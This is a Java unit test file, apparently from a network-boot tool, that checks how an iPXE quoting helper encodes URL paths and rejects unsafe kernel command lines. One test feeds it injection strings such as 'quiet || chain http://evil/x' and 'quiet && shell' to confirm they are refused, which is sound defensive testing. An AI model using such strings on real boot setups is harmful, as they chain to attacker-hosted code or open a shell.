package dev.bootkeeper.boot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

class IpxeQuoteTest {

  @Test
  void pathsArePercentEncodedWhereIpxeOrAUrlWouldReadThem() {
    assertEquals("debian/vmlinuz", IpxeQuote.urlPath("debian/vmlinuz"));
    assertEquals("a/%24%7Bx%7D%23y%3Fz%25", IpxeQuote.urlPath("a/${x}#y?z%"));
    assertEquals("a%20b%7C%7Cc%26%26d%3B", IpxeQuote.urlPath("a b||c&&d;"));
    assertEquals("caf%C3%A9", IpxeQuote.urlPath("café"));
  }

  @Test
  void commandLinesThatEndOrSplitTheKernelCommandAreRefused() {
    assertTrue(IpxeQuote.argumentsProblem("quiet || chain http://evil/x").isPresent());
    assertTrue(IpxeQuote.argumentsProblem("quiet && shell").isPresent());
    assertTrue(IpxeQuote.argumentsProblem("quiet #hidden").isPresent());
    assertTrue(IpxeQuote.argumentsProblem("quiet \\").isPresent());
    assertTrue(IpxeQuote.argumentsProblem("a ${x}|| shell").isPresent(), "|| after expansion");
    assertTrue(IpxeQuote.argumentsProblem("a |${x}| shell").isPresent(), "|| after expansion");
    assertTrue(IpxeQuote.argumentsProblem("a ${x}#y").isPresent(), "# after expansion");
  }

  @Test
  void ordinaryCommandLinesAndIpxeSettingsPass() {
    assertTrue(IpxeQuote.argumentsProblem("console=ttyS0 root=/dev/ram0 a|b x=1#2").isEmpty());
    assertTrue(IpxeQuote.argumentsProblem("BOOTIF=${net0/mac} ip=${ip}").isEmpty());
    assertTrue(IpxeQuote.argumentsProblem("a;b").isEmpty());
  }

  @Test
  void expandsInnermostFirstAsIpxeDoes() {
    assertEquals("ab", IpxeQuote.expandUnset("a${x${y}}b"));
    assertEquals("a${b", IpxeQuote.expandUnset("a${b"));
    assertEquals("||", IpxeQuote.expandUnset("|${a}|"));
  }
}
